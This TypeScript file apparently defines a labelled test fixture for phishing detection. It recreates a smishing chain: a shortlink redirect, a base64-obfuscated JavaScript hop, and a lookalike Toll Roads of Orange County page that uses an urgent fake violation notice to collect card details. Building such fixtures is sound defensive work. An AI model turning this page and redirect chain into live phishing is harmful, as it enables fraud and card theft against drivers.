import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, cardFields, cardFormatJs, doc, formCss, mark } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-tollroads-sms-shortlink-three-hops',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://t2m.io/Vx8Kq3',
  routes: {
    't2m.io/Vx8Kq3': redirectRoute(301, 'https://trk.mobi-clk7.xyz/c?o=11873&s=sms&d=tca'),
    'trk.mobi-clk7.xyz/c': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title></title><script>var d='${b64('https://thetollroads.com-invoice.help/portal/')}';setTimeout(function(){location.replace(atob(d)+'?v='+Math.random().toString(36).slice(2,8));},150);</script></head><body></body></html>`),
    'thetollroads.com-invoice.help/portal/': htmlRoute(
      doc({
        title: 'The Toll Roads | Pay Toll Violation',
        css: `body{margin:0;font-family:Arial,sans-serif;background:#f7f7f7}.h{background:#002d62;color:#fff;padding:14px 20px}.h b{color:#7fc241}.c{max-width:480px;margin:16px auto;background:#fff;padding:20px}.due{font-size:28px;color:#c62828;font-weight:700}button{width:100%;background:#7fc241;border:0;padding:13px;font-size:16px;font-weight:700}${formCss}`,
        body: `<div class="h"><b>THE TOLL ROADS</b> of Orange County</div>
<div class="c"><h2>Notice of Toll Evasion Violation</h2><p>License plate: <b>&#9679;&#9679;&#9679;&#9679;412</b> &middot; SR-73 San Joaquin Hills</p><p>Toll + penalty: <span class="due">$11.69</span></p><p>Pay within 48 hours to avoid a $57.50 penalty and DMV registration hold.</p>
<form method="post" action="/portal/charge.php">${cardFields()}<button>Pay Violation</button></form></div>
<script>${cardFormatJs}</script>`,
      }),
    ),
  },
},
];
